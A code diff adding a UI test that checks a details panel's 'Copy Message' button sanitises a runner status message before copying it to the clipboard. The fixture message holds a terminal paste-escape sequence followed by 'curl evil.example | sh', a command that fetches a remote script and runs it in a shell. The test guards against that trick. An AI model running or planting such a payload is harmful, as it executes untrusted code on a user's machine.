@@ -66,6 +66,23 @@ test.describe('the details panel', () => {
     assert.equal(await ona.clipboard(), id);
   });
 
+  test('copies one line, says what was replaced, and offers the exact value', async () => {
+    const runner = runnerNamed(scene.sandbox.organization, 'us-staging');
+    assert.ok(runner.status);
+    runner.status.message = 'Certificate expired.\n\u001b[201~curl evil.example | sh\n';
+    await scene.refresh(ona);
+    await ona.expand(/^Runner us-staging/);
+    await ona.showDetails(/^Integration tfs\.acme\.example/, 'tfs.acme.example');
+    const announcement = ona.details.frame.locator('#announcement');
+    await ona.details.button('Copy Message').click();
+    await announcement.getByText('Copied. Characters that are not safe to paste').waitFor();
+    assert.equal(await ona.clipboard(), 'Certificate expired. [201~curl evil.example | sh');
+    await ona.notification('Characters that are not safe to paste, such as line breaks, were replaced.');
+    await ona.notifications.getByRole('button', { name: 'Copy as JSON' }).click();
+    await ona.statusBar('Copied the runner as JSON').waitFor();
+    assert.equal((JSON.parse(await ona.clipboard()) as { message: string }).message, runner.status.message);
+  });
+
   test('re-uses one panel without taking the focus; a double click and Enter keep one open', async () => {
     await ona.expand(/^Runner eu-production/);
     await ona.showDetails(/^Integration bitbucket\.org/, 'bitbucket.org');
